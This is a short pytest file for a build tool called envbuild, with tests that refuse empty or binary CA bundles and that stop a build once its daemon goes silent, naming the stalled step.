@pytest.mark.parametrize("data", [b"", b"\x30\x82\x01\x0a\x02\x82\x01\x01\x00" * 20])
def test_an_empty_or_binary_ca_bundle_is_refused(tmp_path, data):
    bundle = tmp_path / "ca.pem"
    bundle.write_bytes(data)
    r = envbuild("render", "maptr", "--card", "h20", "-o", tmp_path / "out", env={"ENVBUILD_CA_BUNDLE": str(bundle)})
    one_clear_line(r, "no PEM certificate")
    assert not (tmp_path / "out").exists()


def test_a_build_that_goes_silent_midway_is_stopped_and_names_the_daemon(tmp_path, monkeypatch):
    """A daemon that took the build and then stalls: the client prints nothing more. Past
    ENVBUILD_BUILD_SILENCE seconds the build is stopped and the step it was in is named."""
    import sys
    import time
    from envbuild import build, engine
    from envbuild.errors import OperationFailed
    monkeypatch.setenv("ENVBUILD_BUILD_SILENCE", "2")
    cli = engine.Cli(sys.executable, "20.10.24", "builtin")
    cmd = [sys.executable, "-c", "import time; print('#7 [wheel-mmcv 2/2] RUN pip wheel .', flush=True); time.sleep(600)"]
    t0 = time.monotonic()
    with pytest.raises(OperationFailed) as exc:
        build._run(cli, cmd, tmp_path / "build.log", None)
    assert time.monotonic() - t0 < 60
    assert "printed nothing for 2 s" in exc.value.message and "[wheel-mmcv 2/2]" in exc.value.message
    assert engine.host() in exc.value.message and "ENVBUILD_BUILD_SILENCE" in exc.value.hint
